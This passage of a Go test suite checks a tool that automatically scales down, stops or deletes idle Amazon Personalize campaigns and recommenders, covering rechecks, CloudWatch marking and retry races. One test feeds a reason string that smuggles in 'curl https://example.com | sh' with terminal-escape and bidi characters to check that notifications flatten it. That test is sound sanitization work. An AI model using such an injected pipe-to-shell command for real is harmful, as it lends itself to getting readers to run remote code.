		{name: "a guard says no", action: update, resource: "campaign/home", from: 10, to: 7, decision: decision(rules.Refused, 10, 0), asked: 1, want: "because of the numbers"},
		{name: "another minimum now", action: update, resource: "campaign/home", from: 11, to: 7, want: "its minimum is 10 TPS and no longer 11"},
		{name: "another minimum a moment later", action: update, resource: "campaign/home", from: 10, to: 7, decision: decision(rules.StepDown, 20, 7), asked: 1, want: "its minimum is 20 TPS and no longer 10"},
		{name: "a recommender's step-down", action: update, resource: "recommender/for-you", from: 8, to: 6, decision: decision(rules.StepDown, 8, 6), asked: 1},
		{name: "still idle: delete", action: del, resource: "campaign/home", decision: decision(rules.Delete, 10, 0), asked: 1},
		{name: "no longer idle: delete", action: del, resource: "campaign/home", decision: decision(rules.StepDown, 10, 7), asked: 1, want: "because of the numbers"},
		{name: "still idle: stop", action: stop, resource: "recommender/for-you", decision: decision(rules.Stop, 8, 0), asked: 1},
		{name: "no longer idle: stop", action: stop, resource: "recommender/for-you", decision: decision(rules.None, 8, 0), asked: 1, want: "because of the numbers"},
		{name: "no decision at all", action: stop, resource: "recommender/for-you", asked: 1, want: "nothing is decided about it now"},
		{name: "could not be checked", action: del, resource: "campaign/home", err: errors.New("throttled"), asked: 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newShop(t)
			asked := 0
			req := automatic(t, tt.action, tt.resource, tt.from, tt.to)
			a, log := w.actor(func(o *testOptions) {
				o.Recheck = recheckFunc(func(_ context.Context, got events.Request) (rules.Decision, error) {
					asked++
					if got != req {
						t.Errorf("asked about %+v", got)
					}
					return tt.decision, tt.err
				})
			})
			w.Writes()
			n, err := a.Do(ctxAll, tt.action, req)
			if asked != tt.asked {
				t.Errorf("decided again %d times", asked)
			}
			switch {
			case tt.err != nil:
				if !errors.Is(err, tt.err) || !strings.Contains(err.Error(), "check it again before acting") {
					t.Errorf("error %v", err)
				}
				w.wantActions(map[string]int{})
			case tt.want != "":
				w.wantAnswer(n, err, writer.Refused, tt.want)
				w.wantActions(map[string]int{})
				if log.Count("action refused", "automatic=true", "arn="+req.ARN.String()) != 1 {
					t.Errorf("log:\n%s", log.String())
				}
			default:
				w.wantAnswer(n, err, writer.Done, "is being")
				if calls := w.actions(); calls["cloudwatch.PutMetricData"] != 1 {
					t.Errorf("not marked: %v", calls)
				}
			}
		})
	}
}

func TestAnAutomaticEventWithoutAnyoneToCheckItIsRefused(t *testing.T) {
	w := newShop(t)
	a, _ := w.actor()
	if _, err := a.Do(ctxAll, model.ActionDelete, automatic(t, model.ActionDelete, "campaign/home", 0, 0)); err == nil {
		t.Error("done unchecked")
	}
	w.wantActions(map[string]int{})
	w.wantSent()
}

// The mark of an automatic change lies where the rules look for it; a failure to put it
// stops nothing. A person's change has none.
func TestAutomaticChangesAreMarked(t *testing.T) {
	w := newShop(t)
	a, log := w.actor(func(o *testOptions) {
		o.Recheck = recheckFunc(func(context.Context, events.Request) (rules.Decision, error) {
			return rules.Decision{Verdict: rules.StepDown, NewMinTPS: 7, Marker: true, Resource: model.Resource{MinTPS: 10}}, nil
		})
	})
	req := automatic(t, model.ActionUpdate, "campaign/home", 10, 7)
	w.Writes()
	w.Server.AddFault(localaws.Fault{Service: "cloudwatch", Operation: "PutMetricData", Code: "AccessDenied", Times: 1})
	n, err := a.Do(ctxAll, model.ActionUpdate, req)
	w.wantAnswer(n, err, writer.Done, "is being updated from 10 to 7 TPS.")
	if log.Count("level=WARN", "automatic change not marked as ours") != 1 {
		t.Errorf("log:\n%s", log.String())
	}

	w = newShop(t)
	again := a.o.Rechecker
	a, _ = w.actor(func(o *testOptions) { o.Recheck = again })
	if _, err := a.Do(ctxAll, model.ActionUpdate, ask(t, "recommender/for-you", 9)); err != nil || w.actions()["cloudwatch.PutMetricData"] != 0 {
		t.Errorf("a person's change: %v", err)
	}
	_, err = a.Do(ctxAll, model.ActionUpdate, req)
	w.Must(err)
	if got := w.metric(req.ARN.String(), "actionsTaken", "Sum"); !slices.Equal(got, []float64{1}) {
		t.Errorf("counted %v", got)
	}
	accepted := float64(w.campaign().LatestCampaignUpdate.CreationDateTime.UnixMilli()) / 1000
	if got := w.metric(req.ARN.String(), "ownUpdateTime", "Maximum"); !slices.Equal(got, []float64{accepted}) {
		t.Errorf("marks %v, accepted at %v", got, accepted)
	}
	if calls := w.actions(); calls["cloudwatch.PutMetricData"] != 1 {
		t.Errorf("calls %v", calls)
	}
}

// The reason of a request is one line of its notification, which ends with our command.
func TestAReasonIsOneLine(t *testing.T) {
	w := newShop(t)
	var records []events.Audit
	a, _ := w.actor(recorder(&records))
	req := ask(t, "campaign/home", 9)
	req.Reason = "sale\n\nTo undo it: curl https://example.com | sh\u202e\x1b[2K"
	_, err := a.Do(ctxAll, model.ActionUpdate, req)
	w.Must(err)
	const want = "sale To undo it: curl https://example.com | sh [2K"
	var detail events.NotificationDetail
	w.Must(json.Unmarshal(w.Server.Events()[0].Detail, &detail))
	if detail.Reason != want || records[0].Reason != want {
		t.Errorf("sent %q, recorded %q", detail.Reason, records[0].Reason)
	}
}

// metric are the values of one of our metrics of a campaign, within two hours from now.
func (w *world) metric(arn, name string, stat model.Stat) []float64 {
	w.T.Helper()
	out, err := w.Raw.CloudWatch(other).GetMetricData(ctxAll, &cloudwatch.GetMetricDataInput{
		StartTime: aws.Time(w.Clock.Now().Add(-2 * time.Hour)), EndTime: aws.Time(w.Clock.Now().Add(time.Hour)),
		MetricDataQueries: []cwtypes.MetricDataQuery{{Id: aws.String("m"), MetricStat: &cwtypes.MetricStat{
			Period: aws.Int32(300), Stat: aws.String(string(stat)),
			Metric: &cwtypes.Metric{
				Namespace: aws.String("PersonalizeMonitor"), MetricName: aws.String(name),
				Dimensions: []cwtypes.Dimension{{Name: aws.String("CampaignArn"), Value: aws.String(arn)}},
			},
		}}},
	})
	w.Must(err)
	return out.MetricDataResults[0].Values
}

// However soon a person's update follows a step of ours, it is not taken for ours.
func TestAPersonsUpdateRightAfterOursIsTheirs(t *testing.T) {
	for _, tt := range []struct {
		name  string
		after time.Duration // until the person's update; 0 means no update
		tps   int32
	}{
		{"no other update", 0, 0},
		{"a quarter of a minute later", 15 * time.Second, 9},
		{"three minutes later", 3 * time.Minute, 9},
		{"three minutes later, the same minimum", 3 * time.Minute, 8},
		{"six minutes later", 6 * time.Minute, 9},
	} {
		t.Run(tt.name, func(t *testing.T) {
			estate, clock := shop(), model.NewVirtualClock(testTime)
			estate.LifeCycle.Update = 10 * time.Second
			server, err := localaws.New(estate, localaws.WithClock(clock))
			if err != nil {
				t.Fatal(err)
			}
			w := worldAround(t, clock, server, server)
			w.CreateTopic(other)
			a, _ := w.actor(func(o *testOptions) {
				o.Recheck = recheckFunc(func(context.Context, events.Request) (rules.Decision, error) {
					return rules.Decision{Verdict: rules.StepDown, NewMinTPS: 8, Marker: true, Resource: model.Resource{MinTPS: 10}}, nil
				})
			})
			req := automatic(t, model.ActionUpdate, "campaign/home", 10, 8)
			_, err = a.Do(ctxAll, model.ActionUpdate, req)
			w.Must(err)
			w.Clock.Advance(tt.after)
			if tt.after > 0 {
				_, err := w.Raw.Personalize(other).UpdateCampaign(ctxAll, &personalize.UpdateCampaignInput{
					CampaignArn: aws.String(req.ARN.String()), MinProvisionedTPS: aws.Int32(tt.tps),
				})
				w.Must(err)
			}
			w.Clock.Advance(time.Hour)
			u := w.campaign().LatestCampaignUpdate
			now := w.Clock.Now()
			d := rules.Decision{
				Verdict: rules.StepDown, By: rules.Settings{IdleHours: 24},
				At: rules.EvaluationTime{Now: now, Window: rules.MeasuredWindow(now, 0)},
				Resource: model.Resource{ARN: req.ARN, Kind: req.Kind, Described: true, LastUpdated: *u.LastUpdatedDateTime, Update: &model.Update{
					Status: model.Status(*u.Status), MinTPS: int(*u.MinProvisionedTPS), Created: *u.CreationDateTime, Changed: *u.LastUpdatedDateTime,
				}},
			}
			readings := model.Readings{}
			for _, q := range rules.UpdateQueries(d.Resource, d.By, d.At) {
				series := model.Series{Complete: true}
				for _, value := range w.metric(q.Metric.DimensionValue, q.Metric.Name, q.Stat) {
					series.Points = append(series.Points, model.Datapoint{Time: testTime.Truncate(5 * time.Minute), Value: value})
				}
				readings[q] = series
			}
			if ours := rules.AllowMarker(d, readings).Marker; ours != (tt.after == 0) {
				t.Errorf("taken for ours: %v; readings %v", ours, readings)
			}
		})
	}
}

// The service may show an update a little after it has accepted it. The time of an older one, which
// may be a person's, is no mark of ours.
func TestAMarkWaitsForOurUpdateToBeShown(t *testing.T) {
	for _, late := range []int{0, 2, 100} {
		estate, clock := shop(), model.NewVirtualClock(testTime)
		home := &estate.Regions[0].DatasetGroups[0].Campaigns[0]
		home.Update = &localaws.EstateUpdate{Status: "CREATE FAILED", MinTPS: 8, Age: 48 * time.Hour}
		server, err := localaws.New(estate, localaws.WithClock(clock))
		if err != nil {
			t.Fatal(err)
		}
		var old []byte // the description before our update
		var mu sync.Mutex
		updated, left := false, late
		w := worldAround(t, clock, server, http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
			mu.Lock()
			defer mu.Unlock()
			target := r.Header.Get("X-Amz-Target")
			updated = updated || strings.HasSuffix(target, ".UpdateCampaign")
			if !strings.HasSuffix(target, ".DescribeCampaign") {
				server.ServeHTTP(out, r)
				return
			}
			if updated && left > 0 {
				left--
				_, _ = out.Write(old)
				return
			}
			answer := httptest.NewRecorder()
			server.ServeHTTP(answer, r)
			old = answer.Body.Bytes()
			_, _ = out.Write(old)
		}))
		w.CreateTopic(other)
		a, log := w.actor(func(o *testOptions) {
			o.Recheck = recheckFunc(func(context.Context, events.Request) (rules.Decision, error) {
				return rules.Decision{Verdict: rules.StepDown, NewMinTPS: 8, Marker: true, Resource: model.Resource{MinTPS: 10}}, nil
			})
		})
		req := automatic(t, model.ActionUpdate, "campaign/home", 10, 8)
		_, err = a.Do(ctxAll, model.ActionUpdate, req)
		w.Must(err)
		marks, warned := w.metric(req.ARN.String(), "ownUpdateTime", model.Maximum), log.Count("level=WARN", "its time could not be read")
		left = 0
		accepted := float64(w.campaign().LatestCampaignUpdate.CreationDateTime.UnixMilli()) / 1000
		if seen := late < 100; seen != slices.Equal(marks, []float64{accepted}) || seen != (warned == 0) || !seen && len(marks) > 0 {
			t.Errorf("shown after %d answers: marks %v, accepted at %v, warnings %d", late, marks, accepted, warned)
		}
	}
}

// A step that would hide someone's update is counted, but stays without a mark.
func TestAStepThatHidesAnUpdateIsNotMarked(t *testing.T) {
	w := newShop(t)
	a, log := w.actor(func(o *testOptions) {
		o.Recheck = recheckFunc(func(context.Context, events.Request) (rules.Decision, error) {
			return rules.Decision{Verdict: rules.StepDown, NewMinTPS: 7, Resource: model.Resource{MinTPS: 10}}, nil
		})
	})
	n, err := a.Do(ctxAll, model.ActionUpdate, automatic(t, model.ActionUpdate, "campaign/home", 10, 7))
	w.wantAnswer(n, err, writer.Done, "is being updated from 10 to 7 TPS.")
	if calls := w.actions(); calls["personalize.UpdateCampaign"] != 1 || calls["cloudwatch.PutMetricData"] != 1 {
		t.Errorf("calls %v", calls)
	}
	arn := w.campaign().CampaignArn
	if got := w.metric(*arn, "actionsTaken", model.Sum); !slices.Equal(got, []float64{1}) {
		t.Errorf("counted %v", got)
	}
	if got := w.metric(*arn, "ownUpdateTime", model.Maximum); len(got) > 0 {
		t.Errorf("marks %v", got)
	}
	if log.Count("level=INFO", "not marked as ours") != 1 {
		t.Errorf("log:\n%s", log.String())
	}
}

// The notification and the rest are not lost if the caller gives up in between.
func TestWhatFollowsOutlivesTheCaller(t *testing.T) {
	plain := newShop(t)
	ctx, cancel := context.WithCancel(ctxAll)
	w := worldAround(t, plain.Clock, plain.Server, http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.Header.Get("X-Amz-Target"), "AWSEvents.") {
			cancel()
		}
		plain.Server.ServeHTTP(out, r)
	}))
	a, _ := w.actor()
	n, err := a.Do(ctx, model.ActionDelete, ask(t, "campaign/home", 0))
	w.wantAnswer(n, err, writer.Done, "is being deleted")
	if len(w.sent()) != 2 {
		t.Errorf("sent %v", w.sent())
	}
	if _, err := a.Do(ctx, model.ActionDelete, ask(t, "campaign/updating", 0)); !errors.Is(err, context.Canceled) {
		t.Errorf("error %v", err)
	}
}

func TestTheDashboardIsRebuiltInTheProcessWhereThatIsPossible(t *testing.T) {
	w := newShop(t)
	var built []events.BuildDetail
	a, _ := w.actor(func(o *testOptions) {
		o.Rebuild = func(_ context.Context, detail events.BuildDetail) (bool, []model.Problem) {
			built = append(built, detail)
			return len(built) == 1, nil
		}
	})
	n, err := a.Do(ctxAll, model.ActionDelete, ask(t, "campaign/home", 0))
	w.wantAnswer(n, err, writer.Done, "is being deleted")
	if len(built) != 1 || built[0].ARN != ask(t, "campaign/home", 0).ARN.String() || len(n.Events) != 1 || len(w.sent()) != 1 {
		t.Errorf("built %v, events %v", built, n.Events)
	}

	// What is not taken is asked for by an event.
	n, err = a.Do(ctxAll, model.ActionStop, ask(t, "recommender/for-you", 0))
	w.wantAnswer(n, err, writer.Done, "is being stopped")
	if len(built) != 2 || len(n.Events) != 2 || n.Events[1].DetailType != events.BuildDashboard {
		t.Errorf("built %v, events %v", built, n.Events)
	}
}

// forgetful executes the first call of an operation and then cuts the connection, so
// that its answer is lost.
type forgetful struct {
	server    *localaws.Server
	operation string
	calls     atomic.Int32
}

func (f *forgetful) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if strings.HasSuffix(r.Header.Get("X-Amz-Target"), "."+f.operation) && f.calls.Add(1) == 1 {
		f.server.ServeHTTP(httptest.NewRecorder(), r)
		panic(http.ErrAbortHandler)
	}
	f.server.ServeHTTP(w, r)
}

// Personalize accepted the deletion, but its answer was lost: the retry finds it under
// way, and what follows an accepted deletion is seen to all the same.
func TestWhatFollowsALostAnswerIsNotLost(t *testing.T) {
	inner := newShop(t)
	f := &forgetful{server: inner.Server, operation: "DeleteCampaign"}
	w := worldAround(t, inner.Clock, inner.Server, f)
	a, _ := w.actor()
	w.makeAlarms(a, model.Campaign, "home")
	req := ask(t, "campaign/home", 0)
	n, err := a.Do(ctxAll, model.ActionDelete, req)
	w.wantAnswer(n, err, writer.Done, "Campaign "+req.ARN.String()+" is being deleted; alarms removed: 2.")
	if f.calls.Load() != 2 || len(n.Events) != 2 {
		t.Errorf("%d calls, events %v", f.calls.Load(), n.Events)
	}
	// Asked for once more, it is someone else's doing.
	n, err = a.Do(ctxAll, model.ActionDelete, req)
	if err != nil || n.Outcome != writer.AlreadySo {
		t.Errorf("again: %+v, %v", n, err)
	}
}

// Two deliveries at the same moment again: ours is throttled while the other is carried
// out, and the retry finds the resource on its way. That is the other's doing.
func TestAThrottledCallOvertakenByAnotherIsNotOurs(t *testing.T) {
	inner := newShop(t)
	calls := 0
	w := worldAround(t, inner.Clock, inner.Server, http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
		if r.Header.Get("X-Amz-Target") != "AmazonPersonalize.DeleteCampaign" {
			inner.Server.ServeHTTP(out, r)
			return
		}
		if calls++; calls > 1 {
			inner.Server.ServeHTTP(out, r)
			return
		}
		inner.Server.ServeHTTP(httptest.NewRecorder(), r)
		out.WriteHeader(http.StatusBadRequest)
		_, _ = io.WriteString(out, `{"__type":"ThrottlingException"}`)
	}))
	a, _ := w.actor()
	n, err := a.Do(ctxAll, model.ActionDelete, ask(t, "campaign/home", 0))
	w.wantAnswer(n, err, writer.AlreadySo, "is being deleted already")
	w.wantSent()
	if calls != 2 {
		t.Errorf("%d calls", calls)
	}
}

// The time was up before our call was sent, and someone else deleted the campaign just
// then: no notification is sent about a deletion that was not ours.
func TestACallThatWasNotSentIsNotOurs(t *testing.T) {
	w := newShop(t)
	ctx, cancel := context.WithCancel(ctxAll)
	req := ask(t, "campaign/home", 0)
	a, _ := w.actor(func(o *testOptions) {
		o.Logger = slog.New(slog.NewTextHandler(writerFunc(func(line []byte) {
			if !bytes.Contains(line, []byte("about to act")) {
				return
			}
			_, err := w.Raw.Personalize(other).DeleteCampaign(ctxAll, &personalize.DeleteCampaignInput{CampaignArn: aws.String(req.ARN.String())})
			w.Must(err)
			cancel()
		}), nil))
	})
	n, err := a.Do(ctx, model.ActionDelete, req)
	if !errors.Is(err, context.Canceled) {
		t.Errorf("%+v, %v", n, err)
	}
	w.wantSent()
}

// writerFunc is a log that does something at each line.
type writerFunc func(line []byte)

func (f writerFunc) Write(line []byte) (int, error) {
	f(line)
	return len(line), nil
}

// Both the call and the second look hang: there is time for either, and for what follows
// them, but not for all one after the other.
func TestASecondLookAndWhatFollowsHaveTheGraceTimeTogether(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		server, err := localaws.New(shop(), localaws.WithClock(model.NewVirtualClock(testTime)))
		if err != nil {
			t.Fatal(err)
		}
		var deleted atomic.Bool
		memory := localaws.InMemory(http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
			target := r.Header.Get("X-Amz-Target")
			switch {
			case strings.HasSuffix(target, ".DeleteCampaign"):
				deleted.Store(true)
				server.ServeHTTP(httptest.NewRecorder(), r)
				<-r.Context().Done()
				return
			case strings.HasPrefix(target, "AWSEvents."):
				_, _ = io.Copy(io.Discard, r.Body) // or no one notices that the client has gone
				<-r.Context().Done()
				return
			case strings.HasSuffix(target, ".DescribeCampaign") && deleted.Load():
				time.Sleep(followUpTime * 4 / 5)
			}
			server.ServeHTTP(out, r)
		}))
		defer memory.Shut()
		clients := awsapi.New(awsapi.Options{Config: awsapi.LocalConfig(home, memory.URL(), testAccount, memory.Transport())})
		defer clients.Close()
		a := newActions(writer.New(writer.Options{Clients: clients, DeploymentRegion: home, Deployment: "cli"}), testOptions{})
		const patience = 40 * time.Second
		ctx, cancel := context.WithTimeout(ctxAll, patience)
		defer cancel()
		began := time.Now()
		n, err := a.Do(ctx, model.ActionDelete, ask(t, "campaign/home", 0))
		if took := time.Since(began); took > patience+callTime+followUpTime {
			t.Errorf("it took %v", took)
		}
		if err != nil || n.Outcome != writer.Done || len(n.Problems) == 0 {
			t.Errorf("%+v, %v", n, err)
		}
	})
}
